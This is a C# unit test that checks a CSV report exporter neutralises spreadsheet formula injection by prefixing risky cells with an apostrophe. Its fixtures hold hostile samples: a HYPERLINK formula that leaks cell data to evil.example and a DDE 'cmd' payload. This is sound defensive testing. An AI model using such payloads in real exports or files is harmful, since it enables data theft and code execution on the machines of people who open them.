using System.Text;
using Cnucnm.Api.Reports;

namespace Cnucnm.Api.Tests.Web;

/// <summary>CSV exports carry text people typed (feed names, diagnoses): a spreadsheet must not run it.</summary>
public sealed class ReportFormatsTests
{
    [Fact]
    public void Text_that_a_spreadsheet_would_run_as_a_formula_is_made_inert_and_numbers_stay_numbers()
    {
        var rows = new List<Dictionary<string, object?>>
        {
            new() { ["diagnosis"] = "=HYPERLINK(\"https://evil.example/?\"&A2,\"click\")", ["balance"] = -1.5, ["note"] = "mastitis" },
            new() { ["diagnosis"] = "+cmd|' /C calc'!A0", ["balance"] = 2.0, ["note"] = "@SUM(1,2)" },
            new() { ["diagnosis"] = "-2+3", ["balance"] = 0.0, ["note"] = "\tleading tab" },
        };

        var lines = Encoding.UTF8.GetString(ReportFormats.Csv(rows)).TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal("diagnosis,balance,note", lines[0]);
        Assert.Equal("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"click\"\")\",-1.5,mastitis", lines[1]);
        Assert.Equal("'+cmd|' /C calc'!A0,2,\"'@SUM(1,2)\"", lines[2]);
        Assert.Equal("'-2+3,0,'\tleading tab", lines[3]);
    }
}
